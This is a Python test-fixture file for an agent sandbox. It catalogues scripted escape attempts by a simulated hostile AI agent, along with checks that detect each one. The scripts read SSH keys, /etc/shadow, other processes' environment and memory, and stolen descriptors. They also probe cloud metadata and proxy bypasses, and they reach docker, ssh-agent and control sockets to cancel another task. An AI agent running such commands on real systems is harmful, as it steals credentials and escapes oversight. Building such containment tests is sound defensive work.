"""What hostile agents do: scripts by name, what each is after, and how that is seen from outside.

A deed is dropped as an item, and sourced by the agent in its worktree; `PRELUDE` gives it the
places. What it steals it puts into `$LOOT`, a file below `.agent/outputs`, where a test finds the
secret again; other deeds are seen by what they changed, or by whom they reached. `open` says why a
deed does not succeed without a box either, where that is so. `hostile_changes.py` and
`hostile_more.py` have others.

Every one is harmless to the machine: it goes for the test's own workspace, home, processes and
servers; it ends by itself, and takes little, also where nothing stands in its way.
"""

from collections.abc import Callable
from dataclasses import dataclass
from typing import Final, Protocol


class Scene(Protocol):
    """What deeds are looked at from; `deed` is the name of one."""

    def told(self, deed: str, secret: str) -> bool:
        """Tell whether a secret lies in what a deed left or printed."""

    def reached(self, door: str) -> bool:
        """Tell whether anybody came through a door of the victim's."""

    def left(self, deed: str, name: str) -> bool:
        """Tell whether a deed left a file of this name among its outputs."""

    def there(self, place: str) -> bool:
        """Tell whether there is something at a place outside, such as "{root}/inbox/x"."""

    def fact(self, name: str) -> bool:
        """Tell one thing about what was there before: see `HostileScene.fact`."""

    def ran(self, deed: str) -> bool:
        """Tell whether anybody but an agent ran the program that a deed planted, or took its bait.

        The bait are the objects of a repository that it must not read.
        """


@dataclass(frozen=True, slots=True)
class Deed:
    """One deed. `open`: why it does not succeed without a box, empty where it does."""

    after: str
    script: str
    seen: Callable[[Scene, str], bool]
    open: str = ""


LIMITS: Final = {
    "max_processes": 120,
    "max_memory_bytes": 200_000_000,
    "max_cpu_seconds": 2,
    "max_file_bytes": 20_000_000,
    "max_disk_bytes": 60_000_000,
    "max_scratch_bytes": 20_000_000,
}
PRELUDE: Final = """
set +eu
A="$ALLUVIUM_AGENT_DIR"; T="$ALLUVIUM_TASK_DIR"; ROOT="${T%/tasks/*}"; LOOT="$A/outputs/loot"
G="$(git rev-parse --absolute-git-dir)"; G="${G%/worktrees/*}"; D="$(ls "$T/input")"
DAEMON="$(cat "$ROOT/.alluvium/daemon.pid" 2>/dev/null)"
EVIL="$ROOT/../evil/$(echo "$D" | tr ' ' '-')"; WAIT="tail -f $A/outputs/forever"
touch "$A/outputs/forever"; echo began > "$A/outputs/began"
# Without a box nothing is touched but what is the test's own; in one, all that is there.
boxed() { [ ! -d "/proc/$VICTIM" ]; }
everybody() { if boxed; then ls /proc | grep '^[0-9]'; else echo "$VICTIM $DAEMON"; fi; }
work() { echo work > "$ALLUVIUM_TASK_ID.txt"; git add -A; git commit -q -m "Add the work"; }
connect() { "$PY" -c 'import socket,sys
link = socket.create_connection((sys.argv[1], int(sys.argv[2])), 3)
link.sendall(b"hello")'  "$@"; }
unix() { "$PY" -c 'import os,socket,sys
folder, name = os.path.split(sys.argv[1]); os.chdir(folder or ".")
link = socket.socket(socket.AF_UNIX); link.connect(name.replace("@", chr(0)))
link.sendall(sys.argv[2].encode() + b"\\n"); print(link.recv(4000).decode())' "$@"; }
. "$T/input/$D" 2> "$A/outputs/errors"
exit 0
"""


def told(secret: str) -> Callable[[Scene, str], bool]:
    return lambda scene, deed: scene.told(deed, secret)


def reached(door: str) -> Callable[[Scene, str], bool]:
    return lambda scene, _: scene.reached(door)


def left(name: str) -> Callable[[Scene, str], bool]:
    return lambda scene, deed: scene.left(deed, name)


def there(place: str) -> Callable[[Scene, str], bool]:
    return lambda scene, _: scene.there(place)


_PYTHON: Final = '"$PY" - > "$LOOT" <<\'END\'\n{}\nEND\n'


def _python(text: str) -> str:
    return _PYTHON.format("import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n" + text)


READS: Final = {
    "reads the keys of its person": Deed("secrets", 'cat "$REAL/.ssh/id_x" > "$LOOT"', told("ssh")),
    "reads the history of its person": Deed(
        "secrets", 'cat "$REAL"/.*history > "$LOOT"', told("history")
    ),
    "reads the store": Deed(
        "workspace", 'cat "$ROOT"/.alluvium/alluvium.db* > "$LOOT"', told("store")
    ),
    "reads the input of another task": Deed(
        "workspace", 'cat "$ROOT"/tasks/*/input/neighbour > "$LOOT"', told("input")
    ),
    "reads the worktree of another task": Deed(
        "workspace", 'cat "$ROOT"/worktrees/*/secret.txt > "$LOOT"', told("worktree")
    ),
    "reads what its owner has not committed": Deed(
        "workspace", 'cat "$ROOT/repo/.env" > "$LOOT"', told("owner")
    ),
    "reads what it is not given of config.toml": Deed(
        "workspace", 'cat "$ROOT/config.toml" > "$LOOT"', told("config")
    ),
    "reads the environment of all processes": Deed(
        "processes",
        'for p in 1 self $(everybody); do cat "/proc/$p/environ"; done > "$LOOT"',
        told("environment"),
    ),
    "walks through the root of other processes": Deed(
        "processes",
        'for p in $(everybody); do cat "/proc/$p/root/$REAL/.ssh/id_x"; done > "$LOOT"',
        told("ssh"),
    ),
    "walks through the folders of other processes": Deed(
        "processes",
        'for p in $(everybody); do cat "/proc/$p/cwd/.alluvium/alluvium.db"* '
        '"/proc/$p/cwd/ws/.alluvium/alluvium.db"*; done > "$LOOT"',
        told("store"),
    ),
    "opens what another process has open": Deed(
        "processes", 'cat "/proc/$VICTIM/fd/$FD" > "$LOOT"', told("descriptor")
    ),
    "takes a descriptor from another process": Deed(
        "processes",
        _python(
            "pidfd = os.pidfd_open(int(os.environ['VICTIM']))\n"
            "fd = libc.syscall(438, pidfd, int(os.environ['FD']), 0)\n"
            "print(os.pread(fd, 200, 0))"
        ),
        told("descriptor"),
    ),
    "reads the memory of another process": Deed(
        "processes",
        _python(
            "memory = open('/proc/%s/mem' % os.environ['VICTIM'], 'rb', 0)\n"
            "memory.seek(int(os.environ['ADDRESS']))\nprint(memory.read(64))"
        ),
        told("memory"),
    ),
    "attaches shared memory": Deed(
        "processes",
        _python(
            "libc.shmat.restype = ctypes.c_void_p\n"
            "at = libc.shmat(int(os.environ['SHM']), None, 0o10000)\nprint(ctypes.string_at(at))"
        ),
        told("shared"),
    ),
    "reads the temporary files of others": Deed(
        "secrets", 'cat "$TEMPORARY" "$SHARED_FILE" > "$LOOT"', told("temporary")
    ),
    "searches the keys of the session": Deed(
        "secrets",
        _python(
            "key = libc.syscall(250, 10, -3, b'user', os.environ['KEY'].encode(), 0)\n"
            "text = ctypes.create_string_buffer(200)\n"
            "libc.syscall(250, 11, key, text, 200)\nprint(text.value)"
        ),
        told("key"),
    ),
    "reads what only the system's administrator may": Deed(
        "secrets", '[ "$(wc -c < /etc/shadow)" -gt 0 ] && touch "$A/outputs/read"', left("read")
    ),
    "looks for descriptors that were left open": Deed(
        "processes",
        _python(
            "for name in os.listdir('/proc/self/fd'):\n"
            "    if int(name) > 2 and os.path.exists('/proc/self/fd/' + name):\n"
            "        if not os.readlink('/proc/self/fd/' + name).endswith('/fd'):\n"
            "            open(os.environ['ALLUVIUM_AGENT_DIR'] + '/outputs/fds', 'a').write(name)"
        ),
        left("fds"),
        "nothing is left open",
    ),
}
NETWORK: Final = {
    "connects to the console": Deed("network", 'connect 127.0.0.1 "$CONSOLE"', reached("console")),
    "connects to the metadata of a cloud": Deed(
        "network",
        'connect 127.0.0.9 "$METADATA"; boxed && connect 169.254.169.254 80',
        reached("metadata"),
    ),
    "connects outside": Deed("network", 'connect 127.0.0.77 "$OUTSIDE"', reached("outside")),
    "asks the proxy for what is not named": Deed(
        "network",
        "for a in 127.0.0.1 localhost 0 0x7f.1 127.1 [::ffff:127.0.0.1]; do "
        'curl -s -m 3 -x "$http_proxy" "http://$a:$PROXIED"; '
        'curl -s -m 3 -p -x "$http_proxy" "http://$a:$PROXIED"; done',
        reached("proxied"),
    ),
    "sends a datagram": Deed(
        "network",
        _python(
            "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM)"
            ".sendto(b'x', ('127.0.0.1', int(os.environ['UDP'])))"
        ),
        reached("udp"),
    ),
    "opens a socket to the host of the machine": Deed(
        "network",
        _python(
            "import socket\nsocket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)\n"
            "open(os.environ['ALLUVIUM_AGENT_DIR'] + '/outputs/vsock', 'w').close()"
        ),
        left("vsock"),
    ),
    "speaks to the daemon that makes containers": Deed(
        "sockets", 'unix "$PLACE/docker.sock" hello', reached("docker")
    ),
    "speaks to the agent that holds keys": Deed(
        "sockets", 'unix "$PLACE/ssh-agent.sock" hello', reached("ssh-agent")
    ),
    "speaks to an abstract socket": Deed(
        "sockets", 'unix "@alluvium-victim-$VICTIM" hello', reached("abstract")
    ),
    "speaks to the control socket": Deed(
        "sockets",
        'unix "$ROOT/.alluvium/control.sock" '
        '\'{"method": "cancel", "params": {"task_id": "\'$BAIT\'"}}\' > "$LOOT"',
        lambda scene, _: scene.fact("bait cancelled"),
    ),
}
